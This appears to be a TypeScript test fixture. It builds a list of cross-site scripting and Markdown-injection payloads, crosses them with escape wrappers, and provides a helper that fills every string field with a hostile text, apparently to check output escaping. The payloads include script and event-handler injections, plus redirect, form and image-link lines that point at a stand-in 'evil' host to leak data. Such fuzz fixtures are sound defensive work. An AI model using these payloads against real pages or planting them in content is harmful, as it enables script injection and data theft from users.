/** Texts that try to leave the place they are printed in: HTML, attributes, SVG, CSS strings, Markdown cells and fences. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<style>*{display:none}</style>',
  '<meta http-equiv=refresh content=0;url=//evil>',
  '<base href=//evil/>',
  '<form action=//evil><input name=x>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<object data=javascript:alert(1)>',
  '[x](javascript:alert(1))',
  '![x](https://evil/?leak)',
  'https://evil.example/',
  '| a | b |\n| --- | --- |',
  '```\n# out\n```',
] as const
const wrappers: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'${text}`,
  (text) => `">${text}`,
  (text) => `</style></title></code></pre>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `\\";}${text}`,
  (text) => `${text}\u0000\u202E`,
  (text) => `&lt;${text}&#60;`,
  (text) => `\n\n${text}\r\n`,
]

export const hostileTexts: readonly string[] = payloads.flatMap((payload) => wrappers.map((wrap) => wrap(payload)))

/** The same value with every string in it replaced; keys stay. */
export function withTexts<T>(value: T, text: string): T {
  if (typeof value === 'string') return text as T
  if (Array.isArray(value)) return value.map((item) => withTexts(item as unknown, text)) as T
  if (value !== null && typeof value === 'object')
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, withTexts(item as unknown, text)])) as T
  return value
}
